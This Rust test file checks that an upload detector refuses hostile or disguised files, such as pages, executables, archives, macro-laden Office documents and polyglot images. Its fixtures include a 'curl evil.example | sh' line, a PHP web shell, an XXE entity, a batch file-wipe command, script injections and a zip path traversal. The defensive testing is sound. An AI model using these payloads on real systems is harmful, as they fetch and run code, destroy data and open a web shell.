//! What nobody should get past us: each is tried under every name it could be sent by.
use std::collections::HashSet;

use domain::document::{Content, NotAccepted, detect};
use proptest::prelude::*;
use rawzip::CompressionMethod;

use crate::samples::{
    SHEET_TYPES, TEXT, WORD_TYPES, binary, docx, docx_with, heic_of, jpeg_with, pdf, png, png_of,
    utf_16, zip,
};

const BINARY_NAMES: [&str; 7] = ["a.pdf", "a.png", "a.jpg", "a.heic", "a.docx", "a.xlsx", "a"];
const TEXT_NAMES: [&str; 3] = ["a.txt", "a.csv", "a.eml"];

/// Pages, programs and archives, to be refused under any name.
fn intruders() -> Vec<(&'static str, Vec<u8>)> {
    let entries = [("a.txt", "a"), ("b.txt", "b")];
    let classes = [("META-INF/MANIFEST.MF", "Main-Class: A"), ("A.class", "\u{7f}")];
    vec![
        ("html", b"<!DOCTYPE html><html><script>alert(1)</script></html>".to_vec()),
        ("html after blanks", b" \r\n\t<HTML><body onload=alert(1)>".to_vec()),
        ("html after a mark", b"\xef\xbb\xbf<html>".to_vec()),
        ("html in utf-16", utf_16("<html><script>alert(1)</script>")),
        ("html comment", b"<!-- x --><script src=//evil.example></script>".to_vec()),
        ("svg", b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec()),
        (
            "xml",
            b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///\">]><a/>".to_vec(),
        ),
        ("php", b"<?php system($_GET['c']); ?>".to_vec()),
        ("asp", b"<%@ Page Language=\"C#\" %>".to_vec()),
        ("shell script", b"#!/bin/sh\ncurl evil.example | sh\n".to_vec()),
        ("rtf", b"{\\rtf1\\ansi{\\object\\objocx}}".to_vec()),
        ("postscript", b"%!PS-Adobe-3.0\n(r) file\n".to_vec()),
        ("exe", [b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".as_slice(), &[0; 80]].concat()),
        ("elf", [b"\x7fELF\x02\x01\x01\0".as_slice(), &[0; 80]].concat()),
        ("mach-o", b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0".to_vec()),
        ("java class", b"\xca\xfe\xba\xbe\0\0\0\x34\0\x0f".to_vec()),
        ("wasm", b"\0asm\x01\0\0\0".to_vec()),
        ("shortcut", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F".to_vec()),
        ("old office", [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".as_slice(), &[0; 512]].concat()),
        ("zip", zip(&entries, CompressionMethod::DEFLATE)),
        ("stored zip", zip(&entries, CompressionMethod::STORE)),
        ("jar", zip(&classes, CompressionMethod::DEFLATE)),
        ("empty zip", [b"PK\x05\x06".as_slice(), &[0; 18]].concat()),
        ("gzip", b"\x1f\x8b\x08\0\0\0\0\0\0\x03\x4b\x04\0".to_vec()),
        ("rar", b"Rar!\x1a\x07\x01\0\x33\x92\xb5\xe5".to_vec()),
        ("7z", b"7z\xbc\xaf\x27\x1c\0\x04".to_vec()),
        ("gif", b"GIF89a\x01\0\x01\0\0\0\0;".to_vec()),
        ("avif", heic_of(b"avif\0\0\0\0avifmif1")),
        ("avif as a container", heic_of(b"mif1\0\0\0\0mif1avif")),
        ("mp4", heic_of(b"isom\0\0\0\0isommp42")),
        ("nothing", Vec::new()),
        ("blanks", b" \r\n".to_vec()),
        ("zeros", vec![0; 64]),
    ]
}

/// Text that runs only if its name says so, and has no name here that does.
fn scripts() -> Vec<(&'static str, Vec<u8>)> {
    let known_to_scanners =
        ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-", "TEST-FILE!$H+H*"];
    vec![
        ("javascript", b"new ActiveXObject('WScript.Shell').Run('calc');\n".to_vec()),
        ("batch", b"@echo off\r\ndel /s /q *\r\n".to_vec()),
        ("test virus", known_to_scanners.concat().into_bytes()),
        ("text", b"I have paid this already.\n".to_vec()),
    ]
}

/// Kinds that we take, and something else at the same time.
fn mixtures() -> Vec<(String, Vec<u8>)> {
    let packed = zip(&[("a.txt", "a")], CompressionMethod::DEFLATE);
    let mut files = Vec::new();
    for (name, whole) in binary() {
        files
            .push((format!("{name}, an archive behind"), [whole.clone(), packed.clone()].concat()));
        files
            .push((format!("{name}, a page before"), [b"<html>".to_vec(), whole.clone()].concat()));
        files.push((format!("{name}, a program before"), [b"MZ\0\0".to_vec(), whole].concat()));
    }
    for trap in [
        "<script>alert(1)</script>",
        "<?php system('id'); ?>",
        "<HTML>",
        "<svg/onload=alert(1)>",
        "%PDF-1.4",
        "<iframe src=x>",
        "<!doctype html>",
        "7z\u{bc}",
    ] {
        let trap = if trap.starts_with("7z") { b"7z\xbc\xaf\x27\x1c" } else { trap.as_bytes() };
        let shown = String::from_utf8_lossy(trap);
        files.push((format!("photo.jpg, {shown} in its comment"), jpeg_with(trap)));
        let chunks = [
            (b"IHDR", vec![0; 13]),
            (b"tEXt", trap.to_vec()),
            (b"IDAT", vec![1]),
            (b"IEND", vec![]),
        ];
        files.push((format!("scan.png, {shown} in its text"), png_of(&chunks)));
    }
    let header = [b"%PDF-1.4\n<script>alert(1)</script>".as_slice(), &pdf()].concat();
    files.push(("page.pdf, a script in its header".to_owned(), header));
    let mut tar = pdf();
    tar.resize(257, b' ');
    tar.extend_from_slice(b"ustar\0 %%EOF");
    files.push(("tape.pdf, a tape archive".to_owned(), tar));
    let with_archive = [(b"IHDR", vec![0; 13]), (b"IDAT", packed), (b"IEND", vec![])];
    files.push(("scan.png, an archive in its pixels".to_owned(), png_of(&with_archive)));
    files.push(("scan.png, a byte behind".to_owned(), [png(), vec![0]].concat()));
    files
}

/// Office files with something in them that no letter needs.
fn loaded() -> Vec<(&'static str, Vec<u8>, NotAccepted)> {
    let macro_types = WORD_TYPES.replace(
        "openxmlformats-officedocument.wordprocessingml.document.main",
        "ms-word.document.macroEnabled.main",
    );
    let both =
        [("[Content_Types].xml", WORD_TYPES), ("word/document.xml", TEXT), ("xl/workbook.xml", "")];
    let renamed = [("[Content_Types].xml", macro_types.as_str()), ("word/document.xml", TEXT)];
    let no_types = [("a.xml", WORD_TYPES), ("word/document.xml", TEXT)];
    let other_types = [("[Content_Types].xml", SHEET_TYPES), ("word/document.xml", TEXT)];
    let page = [("[Content_Types].xml", WORD_TYPES), ("word/document.xml", "<html>")];
    let reader =
        [("%PDF-1.4", ""), ("[Content_Types].xml", WORD_TYPES), ("word/document.xml", TEXT)];
    let encrypted = "EncryptedPackage".encode_utf16().flat_map(u16::to_le_bytes).collect();
    vec![
        ("macros", docx_with(&[("word/vbaProject.bin", "x")]), NotAccepted::Macros),
        ("macros, other case", docx_with(&[("WORD/VBAPROJECT.BIN", "x")]), NotAccepted::Macros),
        ("macro sheet", docx_with(&[("xl/macrosheets/sheet1.xml", "x")]), NotAccepted::Macros),
        ("control", docx_with(&[("word/activeX/activeX1.bin", "x")]), NotAccepted::Macros),
        ("macros by type", zip(&renamed, CompressionMethod::DEFLATE), NotAccepted::Macros),
        ("program", docx_with(&[("word/run.exe", "MZ")]), NotAccepted::Mixed),
        ("java", docx_with(&[("META-INF/MANIFEST.MF", "x")]), NotAccepted::Mixed),
        ("a way out", docx_with(&[("../../autostart.xml", "x")]), NotAccepted::Mixed),
        ("two at once", zip(&both, CompressionMethod::DEFLATE), NotAccepted::Mixed),
        ("a page first", zip(&page, CompressionMethod::STORE), NotAccepted::Mixed),
        ("a pdf first", zip(&reader, CompressionMethod::STORE), NotAccepted::Mixed),
        ("a byte behind", [docx(), vec![0]].concat(), NotAccepted::Mixed),
        ("no types", zip(&no_types, CompressionMethod::DEFLATE), NotAccepted::NotItsName),
        ("other types", zip(&other_types, CompressionMethod::DEFLATE), NotAccepted::NotItsName),
        (
            "a password",
            [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec(), encrypted].concat(),
            NotAccepted::Protected,
        ),
    ]
}

#[test]
fn more_than_two_hundred_hostile_files_are_refused() {
    let mut tried = HashSet::new();
    let mut refuse = |name: &str, what: &str, bytes: &[u8]| {
        let found = detect(name, bytes);
        assert!(found.is_err(), "{what} was taken as {found:?} under the name {name}");
        tried.insert((name.to_owned(), bytes.to_vec()));
    };
    for (what, bytes) in intruders() {
        for name in BINARY_NAMES.into_iter().chain(TEXT_NAMES) {
            refuse(name, what, &bytes);
        }
    }
    for (what, bytes) in scripts() {
        for name in BINARY_NAMES.into_iter().chain(["a.eml", "a.js", "a.bat", "a.html"]) {
            refuse(name, what, &bytes);
        }
    }
    for (what, bytes) in mixtures() {
        let name = what.split(',').next().unwrap();
        refuse(name, &what, &bytes);
    }
    for (what, bytes, _) in loaded() {
        refuse("a.docx", what, &bytes);
    }
    for (name, whole) in binary() {
        for cut in (1..16).map(|part| whole.len() * part / 16) {
            refuse(name, "a part", &whole[..cut]);
        }
        refuse(name, "all but the last three bytes", &whole[..whole.len() - 3]);
    }
    assert!(tried.len() > 200, "only {} different files", tried.len());
}

#[test]
fn a_payer_is_told_what_is_wrong() {
    for (what, bytes, expected) in loaded() {
        assert_eq!(detect("a.docx", &bytes), Err(expected), "{what}");
    }
    let page = b"<html></html>";
    assert_eq!(detect("invoice.pdf", page), Err(NotAccepted::NotItsName));
    assert_eq!(detect("page.html", page), Err(NotAccepted::Kind));
    assert_eq!(detect("a.pdf", b""), Err(NotAccepted::Empty));
    assert_eq!(detect("a.pdf", &pdf()[..40]), Err(NotAccepted::Incomplete));
    assert_eq!(detect("a.mp3", b"ID3\x03\0"), Err(NotAccepted::Kind));
}

proptest! {
    #[test]
    fn a_damaged_file_never_becomes_another_kind(which in 0..6_usize, place in any::<prop::sample::Index>(), to in any::<u8>()) {
        let (name, mut bytes) = binary().swap_remove(which);
        let before = detect(name, &bytes);
        let place = place.index(bytes.len());
        bytes[place] = to;
        let after = detect(name, &bytes);
        prop_assert!(after.is_err() || after == before);
    }

    #[test]
    fn bytes_at_random_are_no_document(bytes in prop::collection::vec(any::<u8>(), 64..400), name in "a\\.(pdf|png|jpg|heic|docx|xlsx|eml)") {
        prop_assert!(detect(&name, &bytes).is_err());
    }

    #[test]
    fn any_words_are_text(words in "[a-zA-Zäöüß0-9€ ,;.\\r\\n\\t-]{0,200}") {
        prop_assume!(!words.trim().is_empty());
        prop_assert_eq!(detect("a.txt", words.as_bytes()), Ok(Content::Text));
    }
}
